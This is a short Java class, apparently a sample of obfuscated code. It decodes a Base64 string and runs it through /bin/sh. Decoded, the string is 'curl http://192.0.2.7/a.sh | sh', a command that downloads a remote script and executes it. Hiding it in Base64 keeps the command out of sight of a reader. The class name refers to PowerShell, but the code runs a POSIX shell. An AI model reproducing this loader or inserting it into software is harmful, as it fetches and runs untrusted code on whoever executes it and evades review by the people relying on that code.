import java.util.Base64;

/** A command that appears once decoded. */
public class EncodedPowerShell {
    void run() throws Exception {
        String command = new String(Base64.getDecoder().decode("Y3VybCBodHRwOi8vMTkyLjAuMi43L2Euc2ggfCBzaA=="));
        Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", command});
    }
}
